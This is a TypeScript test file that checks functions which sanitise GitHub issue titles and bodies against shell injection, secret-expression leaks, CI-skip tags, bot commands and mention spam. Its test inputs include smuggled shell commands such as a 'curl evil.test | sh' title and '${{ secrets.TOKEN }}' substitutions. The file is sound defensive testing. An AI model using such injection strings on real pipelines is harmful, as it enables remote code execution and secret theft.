import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { test } from "node:test";
import fc from "fast-check";
import type { Nodes } from "mdast";
import { fromMarkdown } from "mdast-util-from-markdown";
import { safeBody, safeTitle } from "../../src/github/outgoing.ts";

const TITLES: readonly (readonly [given: string, sent: string])[] = [
  ["Add a dark mode", "Add a dark mode"],
  ["Support `foo()` in the parser", "Support ’foo()’ in the parser"],
  ['Don\'t crash on "x"', "Don’t crash on ”x”"],
  ['a"; curl evil.test | sh; echo "', "a”, curl evil.test / sh, echo ”"],
  ["\u0024{{ secrets.TOKEN }} $(id) `id` $HOME", "$ { { secrets.TOKEN }} (id) ’id’ HOME"],
  ["It costs $ 5", "It costs $ 5"],
  ["Fix typo [skip ci]", "Fix typo (skip ci)"],
  ["Update [CI Skip] and [no ci]", "Update (CI Skip) and (no ci)"],
  ["Fix [skip  ci] and [no\u00a0ci] and [ci \tskip]", "Fix (skip ci) and (no ci) and (ci skip)"],
  ["_@eve_ $\u00a0{ { x", "_eve_ $ { { x"],
  ["/merge", "merge"],
  ["!deploy now", "deploy now"],
  ["--help ::add-mask::x", "help ::add-mask::x"],
  ["::add-mask::x", "add-mask::x"],
  ["@dependabot merge this, mail@example.test", "dependabot merge this, mail@example.test"],
  ["Fixes #12", "Fixes issue 12"],
  ["two\nlines\u0000", "two lines"],
  ["日本語のタイトル 🎉", "日本語のタイトル 🎉"],
  ["x".repeat(300), `${"x".repeat(199)}…`],
];

for (const [given, sent] of TITLES) {
  test(`the title ${JSON.stringify(given.slice(0, 50))}`, () => assert.equal(safeTitle(given), sent));
}

const BODIES: readonly (readonly [given: string, sent: string])[] = [
  ["Nothing special: a/b, 5 & 6.", "Nothing special: a/b, 5 & 6."],
  ["closes #1, Fixed: #2 and resolves GH-3", "closes issue 1, Fixed: issue 2 and resolves issue 3"],
  ["Fixes acme/app#4", "Fixes acme/app issue 4"],
  ["resolves https://github.com/acme/app/issues/5", "resolves acme/app issue 5"],
  ["see #6", "see #6"],
  ["ask @ada and @acme/core, not a@b.test", "ask @\u200bada and @\u200bacme/core, not a@b.test"],
  ["_fixes #1_ and closes **#2**", "_fixes issue 1_ and closes **issue 2**"],
  ["Closes [#1](x), resolves <b>#2</b>", "Closes [issue 1](x), resolves <b>issue 2</b>"],
  ["&#64;ada fixes &#35;1 f&#x69;xes #2", "&amp;#64;ada fixes &amp;#35;1 f&amp;#x69;xes #2"],
  ["fixes \\#1 closes acme\\/app\\#2 resolves GH\\-3", "fixes \\issue 1 closes acme\\/app issue 2 resolves issue 3"],
  ["fixes&#32;#1 closes&colon;&Tab;#2", "fixes&#32;issue 1 closes&colon;&Tab;issue 2"],
  ["fixes <!-- > --> #1 closes <b title='>'>#2</b>", "fixes <!-- > --> issue 1 closes <b title='>'>issue 2</b>"],
  ["a &lt; b &amp; c &#8203;", "a &lt; b &amp; c &#8203;"],
  ["/approve\r\n  /hold", "\u200b /approve\n  /hold"],
  ["\n  /deploy", "\u200b\n  /deploy"],
  ["```\n/lgtm\n```", "```\n /lgtm\n```"],
  ["!deploy", "\u200b !deploy"],
  ["[skip ci]\n\nskip-checks: true", "(skip ci)\n\nskip-checks - true"],
  ["a\u2028/lgtm\u0085/hold\vx", "a\n /lgtm\n /hold\nx"],
  ["Take it:\nbors r+\nBors: try", "Take it:\n\u200bbors r+\n\u200bBors: try"],
  ["run \u0024{{ github.token }}", "run $ {{ github.token }}"],
];

for (const [given, sent] of BODIES) {
  test(`the body ${JSON.stringify(given.slice(0, 50))}`, () => assert.equal(safeBody(given), sent));
}

test("no row of comments and tags behind a closing word takes long", () => {
  for (const row of ["<!--x-->", "<!--><b>", "<!---->--", "_", "\\", "&Tab;<b>"])
    for (const count of [18, 10_000]) {
      const before = process.cpuUsage();
      safeBody(`fixes ${row.repeat(count)} nothing`);
      assert(process.cpuUsage(before).user < 1_000_000, row);
    }
});

test("no title runs anything in a shell line, quoted or not", () => {
  const part = fc.constantFrom(
    "$",
    "(",
    ")",
    "{",
    "}",
    "`",
    '"',
    "'",
    ";",
    "|",
    "&",
    "<",
    ">",
    "\\",
    "\n",
    " ",
    "touch",
    "ran",
    "x",
    "#",
    "*",
    "!",
  );
  fc.assert(
    fc.property(fc.array(part, { maxLength: 12 }), (parts) => {
      const title = safeTitle(parts.join(""));
      assert.doesNotMatch(title, /[`"'\\;|&<>\n]|\$[({\w]/);
    }),
  );
  for (const line of ["echo TITLE", 'echo "TITLE"', "echo 'TITLE'"]) {
    const title = safeTitle("\"; echo ran; $(echo ran) `echo ran` '; echo ran | cat & echo ran > x");
    const { stdout } = spawnSync("sh", ["-c", line.replace("TITLE", () => title)], { encoding: "utf8" });
    assert.doesNotMatch(stdout, /^ran/m);
  }
});

test("no body calls anyone, however its backticks and backslashes stand", () => {
  const part = fc.constantFrom(
    "`",
    "``",
    "\\",
    "@ada",
    " ",
    "\n",
    "_",
    "**",
    ".",
    "-",
    "/",
    "&#64;ada",
    "&commat;ada",
    "x",
  );
  const shown = (node: Nodes): string[] =>
    node.type === "text" ? [node.value] : "children" in node ? node.children.flatMap(shown) : [];
  fc.assert(
    fc.property(fc.array(part, { maxLength: 12 }), (parts) => {
      for (const text of shown(fromMarkdown(safeBody(parts.join("")))))
        assert.doesNotMatch(text, /(^|[^a-z\d])@[a-z]/i);
    }),
  );
});

test("what was made safe stays as it is", () => {
  const words = [
    "$",
    "(",
    "{",
    "`",
    '"',
    ";",
    "|",
    "&",
    "\\",
    "\n",
    " ",
    "x",
    "#1",
    "@",
    "/",
    "!",
    "[skip ci]",
    "[skip",
    "ci]",
    "\u00a0",
    "bors ",
    "fixes ",
    "[",
    "]",
    "***NO_CI***",
  ];
  const text = fc.array(fc.constantFrom(...words), { maxLength: 14 }).map((parts) => parts.join(""));
  assert.equal(safeBody("[***NO_CI***]"), "(NO CI)");
  for (const safe of [safeTitle, safeBody]) {
    fc.assert(fc.property(fc.oneof(text, fc.string()), (given) => assert.equal(safe(safe(given)), safe(given))));
  }
});
